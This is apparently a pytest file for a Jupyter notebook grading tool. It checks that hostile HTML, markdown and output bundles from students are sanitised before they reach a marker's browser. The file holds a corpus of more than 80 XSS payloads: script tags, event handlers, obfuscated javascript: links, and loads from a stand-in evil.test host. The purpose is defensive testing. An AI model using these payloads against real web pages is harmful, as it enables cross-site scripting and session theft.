"""Nothing active that a student hands in or prints reaches a marker's browser."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from grading_server import chromium
from playwright.sync_api import Page, Route

from lintas.marking.box import CellRun
from lintas.marking.code.basis import Book, Known, digest
from lintas.marking.code.clean import (
    NOT_SHOWN,
    clean_attachments,
    clean_image,
    clean_outputs,
)
from lintas.marking.code.clean_html import clean_html
from lintas.marking.code.clean_text import JOINER, TRUNCATED, clean_markdown, clean_text
from lintas.marking.code.limits import (
    MAX_HTML,
    MAX_LINES,
    MAX_MARKDOWN,
    MAX_TEXT,
    MAX_TRACEBACK,
)
from lintas.marking.code.loading import Cell
from lintas.marking.code.notebook import autograded

PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='hit(1)'><script>hit(2)</script></svg>"
SVG64 = base64.b64encode(SVG.encode()).decode()

# Each calls hit() if it is run: at once, when it is clicked, or when the pointer is over it.
HTML = [
    "<script>hit(1)</script>",
    "<img src=x onerror=hit(2)>",
    "<svg onload=hit(3)>",
    "<svg><script>hit(4)</script></svg>",
    "<body onload=hit(5)>",
    "<iframe srcdoc='<script>parent.hit(6)</script>'></iframe>",
    "<iframe src='javascript:parent.hit(7)'></iframe>",
    "<a href='javascript:hit(8)'>click</a>",
    "<a href='jav&#x09;ascript:hit(9)'>click</a>",
    "<a href='&#1;javascript:hit(10)'>click</a>",
    "<form action='javascript:hit(11)'><button>send</button></form>",
    "<button onclick=hit(12)>press</button>",
    "<input autofocus onfocus=hit(13)>",
    "<details open ontoggle=hit(14)><summary>s</summary></details>",
    "<video><source onerror=hit(15)></video>",
    "<div onmouseover=hit(16) style='position:fixed;inset:0;z-index:9999'>cover</div>",
    "<style>@import 'http://evil.test/s.css'; body{display:none}</style>",
    "<link rel=stylesheet href='http://evil.test/l.css'>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href='http://evil.test/'>",
    "<object data='javascript:hit(20)'></object><embed src='javascript:hit(21)'>",
    "<math><mtext></p><script>hit(22)</script></mtext></math>",
    "<math><mi xlink:href='javascript:hit(23)'>m</mi></math>",
    "<table><td background='http://evil.test/b'>cell</td></table>",
    "<noscript><p title='</noscript><img src=x onerror=hit(24)>'></noscript>",
    "<template><script>hit(25)</script></template>",
    "</div></div></body><script>hit(26)</script>",
    "<!--><script>hit(27)</script-->",
    "<script src='http://evil.test/x.js'></script>",
    f"<img src='data:image/svg+xml;base64,{SVG64}'>",
    f"<object data='data:image/svg+xml;base64,{SVG64}'></object>",
    "<textarea></textarea><script>hit(28)</script>",
    "<p id='explain' name='notebook_id' class='score tex2jax_process'>clobber</p>",
    "$$\\href{javascript:hit(29)}{formula}$$",
    "<table><tr><td colspan=99999999 rowspan=65534>wide</td></tr></table>",
]
MARKDOWN = [
    *(text for text in HTML if not text.startswith("$$")),
    "[click](javascript:hit(40))",
    "[click](JaVaScRiPt:hit(41))",
    "[click](&#106;avascript:hit(42))",
    "[click](javascript&colon;hit(43))",
    "[click](<javascript:hit(44)>)",
    "[click](< javascript:hit(45)>)",
    "[click](\x01javascript:hit(46))",
    "[click](javascript\\:hit(47))",
    "[click][ref]\n\n[ref]: javascript:hit(48)",
    "[click][ref2]\n\n[ref2]:\n  <javascript:hit(49)> 'title'",
    "<javascript:hit(50)>",
    "[click](vscode://file/etc) [click](Ms-Word:ofe) [x][y]\n\n[y]: ssh://evil.test",
    "[click](vbscript:hit(51)) [click](data:text/html,<script>hit(52)</script>)",
    "![x](x'onerror='hit(53)) ![x](http://evil.test/i.png)",
    '![x](x "\\" onerror=\\"hit(54)")',
    "![x][pic]\n\n[pic]: http://evil.test/p.png",
    "![missing](attachment:none.png)",
    "```mermaid\ngraph TD; click A href 'javascript:hit(55)'\n<img src=x onerror=hit(56)>\n```",
    "```<script>hit(57)</script>\ncode\n```",
    "~~~~   mermaid\n<img src=x onerror=hit(58)>\n~~~~",
    "    <script>hit(59)</script>",
    "`<script>hit(60)</script>`",
    "$$\\begin{x}<script>hit(61)</script>\\end{x}$$",
    "$<img src=x onerror=hit(62)>$",
    "\\begin{align}<img src=x onerror=hit(63)>\\end{align}",
    "| a |\n|---|\n| <img src=x onerror=hit(64)> |",
    "term\n: <img src=x onerror=hit(65)>",
    "- [ ] <img src=x onerror=hit(66)>",
    "# explain",
    "explain\n==========",
    "> #explain",
    "<a\nhref='javascript:hit(67)'>click</a>",
    "<!-- --><img src=x onerror=hit(68)>",
    "<?php <script>hit(69)</script> ?>",
    "<![CDATA[<script>hit(70)</script>]]>",
    "http://evil.test/<script>hit(71)</script>",
    "\\<script>hit(72)\\</script>",
    "[a](x)<svg/onload=hit(73)>",
]
BUNDLES: list[dict[str, Any]] = [
    {"application/javascript": "hit(80)"},
    {"text/javascript": "hit(81)"},
    {"image/svg+xml": SVG},
    {"image/png": '"><img src=x onerror=hit(82)>'},
    {"image/jpeg": PNG},
    {"image/png": PNG, "text/html": "<script>hit(83)</script>"},
    {"text/latex": "$$\\href{javascript:hit(84)}{x}$$<img src=x onerror=hit(85)>"},
    {"text/vnd.mermaid": "<img src=x onerror=hit(86)>"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>hit(87)"}},
    {"application/pdf": "JVBERg=="},
    {"application/vnd.plotly.v1+json": {"data": [], "layout": {"title": "<img onerror=hit(88)>"}}},
    {"text/plain": "<script>hit(89)</script>\x1b[31mred\x1b[0m"},
    {"text/plain": ["<img src=x ", "onerror=hit(90)>"]},
    {"text/html": {"a": "b"}},
    {},
]


def outputs() -> list[dict[str, Any]]:
    """The whole corpus as a hostile process would send it."""
    shown: list[dict[str, Any]] = [
        {"output_type": "display_data", "data": {"text/html": text}, "metadata": {}}
        for text in HTML
    ]
    shown += [{"output_type": "display_data", "data": {"text/markdown": t}} for t in MARKDOWN]
    isolated = {"text/html": {"isolated": True}, "filenames": {"image/png": "' onerror=hit(91) '"}}
    shown += [{"output_type": "execute_result", "data": b, "metadata": isolated} for b in BUNDLES]
    return [
        *shown,
        {"output_type": "stream", "name": "stderr' onclick='hit(92)", "text": "<script>hit(93)"},
        {"output_type": "stream", "name": "stdout", "text": "\x1b]8;;javascript:hit(94)\x07x"},
        {"output_type": "error", "ename": "<script>hit(95)</script>", "evalue": "<img onerror=1>",
         "traceback": ["<script>hit(96)</script>", "\x1b[31m<img src=x onerror=hit(97)>", 7]},
        {"output_type": "error"},
        {"output_type": "update_display_data", "data": {"text/html": "<script>hit(98)</script>"}},
        {"output_type": ["stream"], "text": "x"},
        {},
    ]  # fmt: skip


BOOK = Book(
    "ps1",
    (
        Known("run", "code", "print()", "0" * 32, locked=False, solution=True),
        Known("explain", "markdown", "YOUR ANSWER", "0" * 32, False, True, True, points=5.0),
    ),
)


def hostile_notebook() -> bytes:
    """An autograded notebook of a student who tries everything at once."""
    essays = "\n\n".join(MARKDOWN)
    cells = [
        Cell("code", "print('<script>hit(100)</script>')", id="'><script>hit(101)", name="run"),
        *(Cell("markdown", text, attachments={"none.png": {"image/svg+xml": SVG64}})
          for text in MARKDOWN),
        Cell("markdown", essays, name="explain"),
        Cell("raw", "<script>hit(102)</script>"),
    ]  # fmt: skip
    run = CellRun(tuple(outputs()), 1)
    return autograded("ps1", BOOK, cells, {0: run}, {})


def uncleaned_notebook() -> bytes:
    """The same, as stock nbgrader would keep it."""
    book = json.loads(hostile_notebook())
    book["cells"] = [
        {"cell_type": "markdown", "id": f"m-{n}", "metadata": {}, "source": text}
        for n, text in enumerate(MARKDOWN)
        if "attachment:" not in text
    ]
    code = {"cell_type": "code", "id": "c", "metadata": {}, "execution_count": 1, "source": ""}
    shown = [one for one in outputs() if "text/html" in one.get("data", {})][:5]
    book["cells"].append({**code, "outputs": shown})
    return json.dumps(book).encode()


# In nbgrader's pages


def page_of(raw: bytes, template: str, folder: Path) -> str:
    """The page that nbgrader makes of an autograded notebook."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config

    book = json.loads(raw)
    for one in book["cells"]:
        if "nbgrader" in one["metadata"]:  # as nbgrader's GetGrades adds them for feedback
            one["metadata"]["nbgrader"] |= {"score": 1, "comment": "Well."}
    path = folder / "ps1.ipynb"
    path.write_text(json.dumps(book))
    config = Config()
    config.HTMLExporter.template_name = template
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    static = Path(handlers.static_path) / "node_modules" / "bootstrap" / "dist" / "css"
    config.HTMLExporter.extra_template_paths = [str(static)]
    scored = {"notebook": "ps1", "score": 1, "max_score": 5, "late_penalty": 0}
    resources = {
        "assignment_id": "ps1", "notebook_id": "ps1", "submission_id": "1", "index": 0, "total": 1,
        "base_url": "", "student": "ani", "last_name": None, "first_name": None,
        "notebook_path": "ps1.ipynb", "nbgrader": scored,
    }  # fmt: skip
    return str(HTMLExporter(config=config).from_filename(str(path), resources=resources)[0])


@pytest.fixture(scope="module")
def page() -> Iterator[Page]:
    with chromium() as browser:
        page = browser.new_page()
        page.set_default_timeout(60_000)
        page.add_init_script("window.hits = []; window.hit = (n) => window.hits.push(n)")
        yield page


class Seen:
    """What a page did: calls of hit(), addresses it asked for."""

    def __init__(self, page: Page, html: str) -> None:
        self.asked: list[str] = []
        page.unroute_all()
        page.route("**/*", lambda route: self._serve(route, html))
        page.goto("http://form.test/page")
        page.evaluate(_TOUCH_EVERYTHING)
        page.wait_for_timeout(300)
        self.hits = page.evaluate("window.hits")
        self.address = page.url

    def _serve(self, route: Route, html: str) -> None:
        address = route.request.url
        if address == "http://form.test/page":
            route.fulfill(body=html, content_type="text/html; charset=utf-8")
            return
        # "No content": a page stays where it is, wherever a link leads.
        self.asked.append(address)
        route.fulfill(status=204)


_TOUCH_EVERYTHING = """() => {
  for (const node of document.querySelectorAll("body *")) {
    const own = node.closest(".navbar") || node.matches("a[href^='http']");
    if (own) continue;
    for (const kind of ["mouseover", "mouseenter", "focus", "pointerover"])
      node.dispatchEvent(new MouseEvent(kind, {bubbles: true}));
    if (node.matches("a, button, summary, form button")) node.click();
  }
}"""


@pytest.mark.parametrize("template", ["formgrade", "feedback"])
def test_nothing_runs_in_nbgraders_pages(template: str, page: Page, tmp_path: Path) -> None:
    html = page_of(hostile_notebook(), template, tmp_path)
    seen = Seen(page, html)
    assert seen.hits == []
    assert seen.address.partition("#")[0] == "http://form.test/page"
    assert [address for address in seen.asked if "evil.test" in address] == []
    found = page.evaluate(_LEFT)
    assert found == {"handlers": [], "active": [], "ids": 1 if template == "formgrade" else 0}


# What is left of a student's in the page: event handlers, elements that act or load, and how many
# elements have the id of the score's field.
_LEFT = """() => {
  const all = [...document.querySelectorAll("#notebook *, .output *, .text_cell *")];
  const shown = (node) => node.outerHTML.slice(0, 100);
  const bad = "script,iframe,object,embed,form,style,link,meta,base,svg,math,video,textarea," +
    "input:not([disabled]),button,details,img:not([src^='data:image/png;base64'])";
  const leads = (node) => node.href && !/^(https?|attachment):/.test(node.protocol);
  const mine = (node) => !node.closest(".panel-heading, .panel-footer, .navbar, .help");
  return {
    handlers: all.filter((n) => [...n.attributes].some((a) => a.name.startsWith("on"))).map(shown),
    active: all.filter((n) => (n.matches(bad) || leads(n)) && mine(n)).map(shown),
    ids: document.querySelectorAll("[id='explain']").length,
  };
}"""


def test_the_same_uncleaned_would_run(page: Page, tmp_path: Path) -> None:
    """The corpus bites: without cleaning the form grader's page runs it."""
    seen = Seen(page, page_of(uncleaned_notebook(), "formgrade", tmp_path))
    assert len(set(seen.hits)) > 20


def test_the_corpus_is_large() -> None:
    assert len(HTML) + len(MARKDOWN) + len(BUNDLES) >= 80


# What stays


def test_a_table_of_pandas_stays() -> None:
    import pandas as pd

    table = pd.DataFrame({"a": [1, 2], "<b>": ["x", "<script>"]})
    cleaned = clean_html(table._repr_html_())
    assert '<table border="1" class="dataframe">' in cleaned
    assert cleaned.count("<td>") == 4 and "&lt;script&gt;" in cleaned
    assert "<style" not in cleaned


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("a <b>bold</b> 1 < 2 & 3", "a <b>bold</b> 1 &lt; 2 &amp; 3"),
        ("<p title='a > b'>x</p>", "<p>x</p>"),
        ("<table class=\"dataframe big\"><tr><td COLSPAN=2 rowspan='700'>x", 'colspan="2"'),
        ("<td data-colspan=3>x</td>", "x"),
        ("<h2 class='tex2jax_process'>$x$</h2>", "<h2>$x$</h2>"),
    ],
)
def test_plain_html_stays(text: str, kept: str) -> None:
    cleaned = clean_html(text)
    assert kept in cleaned
    assert re.findall(r"rowspan|title|tex2jax_process|big", cleaned) == []


def test_pictures_stay_and_are_what_they_say() -> None:
    assert clean_image(PNG, "image/png") == PNG
    assert clean_image(f"{PNG[:20]}\n{PNG[20:]}", "image/png") == PNG
    assert clean_image(PNG, "image/jpeg") == ""
    assert clean_image(base64.b64encode(SVG.encode()).decode(), "image/png") == ""
    wide = bytearray(base64.b64decode(PNG))
    wide[16:20] = (60_000).to_bytes(4, "big")
    assert clean_image(base64.b64encode(bytes(wide)).decode(), "image/png") == ""
    assert clean_image("A" * 4_000_000, "image/png") == ""
    assert clean_image("é" * 8, "image/png") == ""


def test_own_attachments_stay() -> None:
    kept = clean_attachments({"a.png": {"image/png": PNG, "image/svg+xml": SVG64}, "b": 3})
    assert kept == {"a.png": {"image/png": PNG}}
    text = "![a](attachment:a.png) ![b](attachment:b.png)"
    cleaned = clean_markdown(text, kept)
    assert cleaned == f"![a](attachment:a.png) !{JOINER}[b](attachment:b.png)"


@pytest.mark.parametrize(
    "text",
    [
        "Plain words, a < b and b > c; 3 <= 4 & 5.",
        "**bold** *it* `code` [link](https://example.org/a?b=c&d=e)",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "$\\frac{a}{b} \\leq \\sum_i x_i$ and $$\\begin{aligned} a &= b \\end{aligned}$$",
        "1. one\n2. two\n\n> quoted\n\n---\n\n```python\nx = y[1:2] & 3\n```",
        "&amp; &lt; &nbsp; R&D, 20:15, Catatan: penting!",
    ],
)
def test_honest_markdown_reads_as_before(text: str) -> None:
    from nbconvert.filters import markdown2html

    cleaned = clean_markdown(text)
    assert cleaned.replace(JOINER, "") == text
    assert markdown2html(cleaned).replace(JOINER, "").split() == markdown2html(text).split()


def test_code_in_markdown_reads_as_before() -> None:
    from nbconvert.filters import markdown2html

    html = markdown2html(clean_markdown("`<b>` and\n\n    if a <b: x = '</p>'\n"))
    assert "&lt;b&gt;" in html.replace(JOINER, "")


def test_the_lecturers_words_stay_as_they_are() -> None:
    own = "# Task\n\n<div class='alert'>Read <b>first</b>.</div>"
    book = Book("ps1", BOOK.cells, texts=frozenset({digest(own)}))
    shown = autograded("ps1", book, [Cell("markdown", own), Cell("markdown", own + " ")], {}, {})
    first, second = (one["source"] for one in json.loads(shown)["cells"])
    assert first == own
    assert second != own and second.replace(JOINER, "") == own + " "


def test_a_lecturers_text_without_its_picture_can_still_be_shown(tmp_path: Path) -> None:
    own = "![plan](attachment:plan.png)"
    book = Book("ps1", BOOK.cells, texts=frozenset({digest(own)}))
    raw = autograded("ps1", book, [Cell("markdown", own)], {}, {})
    assert "plan" in page_of(raw, "formgrade", tmp_path)


def test_text_keeps_its_colours_and_loses_what_hides() -> None:
    assert clean_text("\x1b[31mred\x1b[0m\n\ttab\r\x08") == "\x1b[31mred\x1b[0m\n\ttab\r\x08"
    assert clean_text("a\x00b\u202ec\x9bd") == "a\ufffdb\ufffdc\ufffdd"


def test_limits_are_nbgraders() -> None:
    from nbformat.v4 import new_code_cell, new_output
    from nbgrader.preprocessors import LimitOutput

    streams = ["\n".join(map(str, range(n))) for n in (400, 700, 5)]
    raw = [{"output_type": "stream", "name": "stdout", "text": text} for text in streams]
    raw.append({"output_type": "error", "ename": "E", "evalue": "", "traceback": ["x"] * 150})
    theirs = new_code_cell(outputs=[new_output(**one) for one in raw])
    LimitOutput().preprocess_cell(theirs, {}, 0)
    assert clean_outputs(raw, 1) == [dict(one) for one in theirs.outputs]
    assert sum(len(o["text"].split("\n")) for o in clean_outputs(raw, 1)[:-1]) == MAX_LINES
    assert len(clean_outputs(raw, 1)[-1]["traceback"]) == MAX_TRACEBACK


def test_sizes_are_bounded() -> None:
    assert clean_text("x" * (MAX_TEXT + 10)).endswith(TRUNCATED)
    assert len(clean_markdown("x" * (MAX_MARKDOWN + 10))) < MAX_MARKDOWN + 50
    assert clean_html("x" * (MAX_HTML + 1)) == ""
    many = [{"output_type": "display_data", "data": {"text/plain": "x"}}] * 300
    assert len(clean_outputs(many, 1)) == 201


def test_what_would_take_long_to_show_is_left_out() -> None:
    assert clean_html("<div>" * 101) == clean_html("<b>" * 101 + "x" + "</b>" * 101) == ""
    assert "x" in clean_html("<div>" * 100 + "x")
    assert clean_html("".join(f"<p><b a={n}></p>" for n in range(101))) == ""
    assert clean_html("".join(f"<p x='</b>'><b a={n}>" for n in range(101))) == ""
    assert clean_html("<p>a" * 500).count("<p>") == 500
    assert clean_html("<table>" + "<tr><td>a<br>" * 500).count("<td>") == 500
    assert clean_markdown("\\begin{a}" * 101).count(JOINER) == 101
    assert clean_markdown("\\begin{a}x\\end{a}" * 100).count(JOINER) == 0


def test_what_cannot_be_shown_says_so() -> None:
    (shown,) = clean_outputs([{"output_type": "execute_result", "data": {"a/b": "c"}}], 3)
    assert shown["data"] == {"text/plain": NOT_SHOWN}
    assert shown["execution_count"] == 3


def test_half_characters_can_be_written() -> None:
    (shown,) = clean_outputs([{"output_type": "stream", "name": "x", "text": "a\ud800"}], 1)
    assert shown["text"] == "a\ufffd\ufffd\ufffd"
